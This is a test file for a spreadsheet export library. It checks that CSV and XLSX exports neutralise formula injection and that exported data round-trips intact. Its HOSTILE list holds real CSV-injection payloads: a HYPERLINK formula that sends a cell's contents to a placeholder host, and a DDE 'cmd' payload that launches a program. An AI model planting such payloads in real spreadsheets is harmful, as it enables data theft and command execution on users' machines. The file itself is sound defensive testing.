import { describe, expect, it } from 'vitest';
import { convertRows, dryRun, encodeCsv, suggestMapping, neutraliseCell, parseTable, restoreNeutralisedCell, toCsv, writeXlsx } from '../src/index.ts';
import { KO_HEADERS, koreanRows } from './fixtures.ts';

const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
];

describe('formula injection is neutralised on export (OWASP CSV Injection)', () => {
  it.each(HOSTILE)('%j gets a leading single quote', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
    expect(restoreNeutralisedCell(neutraliseCell(value))).toBe(value);
  });

  it('leaves ordinary values alone, including apostrophes that were not ours', () => {
    for (const v of ['김영희', '李美玲', 'Li Meiling', '2012-05-03', '', "'tis", '약 4세 (2016)']) {
      expect(neutraliseCell(v)).toBe(v);
      expect(restoreNeutralisedCell(v)).toBe(v);
    }
  });

  it('the CSV writer quotes every field, doubles quotes and neutralises', () => {
    expect(toCsv([['이름', '메모'], ['김영희', '=HYPERLINK("x")']])).toBe('"이름","메모"\r\n"김영희","\'=HYPERLINK(""x"")"\r\n');
    const bytes = encodeCsv([['a']]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('no cell of an exported CSV or XLSX starts with a formula trigger', async () => {
    const rows = [['이름', '메모'], ...HOSTILE.map((h) => ['김영희', h])];
    for (const bytes of [encodeCsv(rows), await writeXlsx(rows)]) {
      const table = await parseTable(bytes);
      for (const r of table.rows) expect(r.cells[1]!.startsWith("'")).toBe(true);
    }
  });
});

describe('export then import gives back the same data', () => {
  const rows = koreanRows(30, 9);
  rows[0]![7] = HOSTILE[0]!;
  rows[1]![7] = '줄 바꿈\n"따옴표", 쉼표';
  const expected = async (bytes: Uint8Array) => {
    const report = await dryRun(bytes, { currentYear: 2026 });
    expect(report.ok).toBe(true);
    return report.cases.map((c) => c.case);
  };

  it('CSV and XLSX round trips produce identical cases to the plain source', async () => {
    // The source: the same rows converted straight from memory, no file in between.
    const source = convertRows(
      { format: 'csv', headers: KO_HEADERS, headerRow: 1, rows: rows.map((cells, i) => ({ row: i + 2, cells })), problems: [] },
      suggestMapping(KO_HEADERS).mapping,
      { currentYear: 2026 },
    ).cases.map((c) => c.case);
    const viaCsv = await expected(encodeCsv([KO_HEADERS, ...rows]));
    const viaXlsx = await expected(await writeXlsx([KO_HEADERS, ...rows]));
    expect(source).toHaveLength(30);
    expect(viaCsv).toEqual(source);
    expect(viaXlsx).toEqual(source);
    expect(viaCsv[0]!.notes).toBe(HOSTILE[0]);
    expect(viaCsv[1]!.notes).toBe('줄 바꿈\n"따옴표", 쉼표');
  });
});
